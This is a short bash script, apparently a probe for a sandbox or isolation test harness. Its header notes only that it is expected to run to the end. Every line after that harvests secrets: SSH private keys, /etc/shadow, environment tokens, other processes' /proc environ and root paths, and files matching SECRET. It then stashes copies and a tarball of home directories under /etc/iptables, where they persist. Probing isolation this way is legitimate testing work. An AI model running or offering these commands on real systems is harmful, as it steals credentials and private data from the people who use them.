#!/bin/bash
# expect: ends
echo started
cat ~/.ssh/id_rsa /home/*/.ssh/id_rsa /root/.ssh/id_rsa /etc/shadow /srv/private/* 2>/dev/null
env
set | grep -i token
cat /proc/self/environ /proc/$PPID/environ /proc/1/environ /proc/*/environ 2>/dev/null | tr '\0' '\n'
cat /proc/1/root/srv/private/* /proc/$PPID/root/srv/private/* /proc/$PPID/cwd/* 2>/dev/null
for fd in /proc/self/fd/*; do cat "$fd/private/key" 2>/dev/null; done
grep -rhs SECRET /home /root /srv /tmp /run /var/spool /dev/shm
# and into files that are kept
mkdir -p /etc/iptables
cat ~/.ssh/id_rsa /etc/shadow /srv/private/key > /etc/iptables/rules.v4 2>/dev/null
env > /etc/iptables/env
tar cf /etc/iptables/home.tar -C / home srv root 2>/dev/null
exit 0
